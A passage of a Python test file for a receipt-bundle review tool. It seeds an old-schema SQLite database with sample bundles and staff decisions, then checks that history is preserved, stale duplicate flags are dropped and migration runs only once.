    verification TEXT NOT NULL, flags TEXT NOT NULL, order_number TEXT, image_hashes TEXT NOT NULL,
    seen_at TEXT NOT NULL, app_version TEXT NOT NULL DEFAULT '', rules_version INTEGER NOT NULL DEFAULT 0);
CREATE INDEX bundles_order ON bundles(order_number);
CREATE TABLE decisions (hash TEXT PRIMARY KEY REFERENCES bundles(hash), decision TEXT NOT NULL,
    note TEXT NOT NULL, staff TEXT NOT NULL, decided_at TEXT NOT NULL);
"""


def test_an_old_record_opens_with_its_decisions_in_the_history_and_no_stale_duplicate_flag(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "old.sqlite3"
    con = sqlite3.connect(db)
    con.executescript(_V1)
    verification = json.dumps({"created_at": "2026-11-28T10:00:00+09:00", "declared": {"name": "山田 花子"},
                               "fingerprint": "1TB5-NMZF-65S1"}, ensure_ascii=False)
    stale = json.dumps([{"id": "same_order", "severity": "red", "ja": "同じ注文番号 …（b.receipt.zip）",
                         "en": "Another bundle has the same order number"}], ensure_ascii=False)
    # Scanned by file name: "a" second, so it carried the flag, though "b" arrived a day later.
    con.executemany("INSERT INTO bundles VALUES (?,?,?,?,?,?,?,?,?,?)", [
        ("bbb", "/in/b.receipt.zip", "2026-12-02T10:00:00+09:00", verification, "[]", ORDER, "[]",
         "2026-12-02T10:00:00+09:00", "0.1.0", 1),
        ("aaa", "/in/a.receipt.zip", "2026-12-01T10:00:00+09:00", verification, stale, ORDER, "[]",
         "2026-12-02T10:00:00+09:00", "0.1.0", 1)])
    con.execute("INSERT INTO decisions VALUES ('aaa', 'rejected', '二重の提出', '田中', '2026-12-02T11:00:00+09:00')")
    con.commit()
    con.close()
    ro = review.Store(db, read_only=True)  # viewed before any copy of the app brought it up to date
    assert [d.decision for d in ro.get("aaa").history] == ["rejected"]  # type: ignore[union-attr]
    assert "same_order" not in ids(ro.get("aaa")) and "duplicate_of" in ids(ro.get("bbb"))  # type: ignore[arg-type]
    ro.close()
    for _ in range(2):  # opening again copies nothing twice
        s = review.Store(db)
        a, b = s.get("aaa"), s.get("bbb")
        assert a is not None and b is not None and a.stale
        assert a.history == [review.Decision("rejected", "二重の提出", "田中", "2026-12-02T11:00:00+09:00", "", None)]
        assert a.decision == "rejected" and a.staff == "田中"
        assert "same_order" not in ids(a) and ids(a) == {"sent_again", "fingerprint_missing"} and a.copies == ["bbb"]
        assert "duplicate_of" in ids(b) and b.original == "aaa"
        s.close()
    s = review.Store(db)
    s.decide("aaa", "approved", "元の提出", "佐藤")
    assert [d.decision for d in s.get("aaa").history] == ["rejected", "approved"]  # type: ignore[union-attr]
    s.close()
    ro = review.Store(db, read_only=True)
    assert [d.decision for d in ro.get("aaa").history] == ["rejected", "approved"]  # type: ignore[union-attr]
    ro.close()
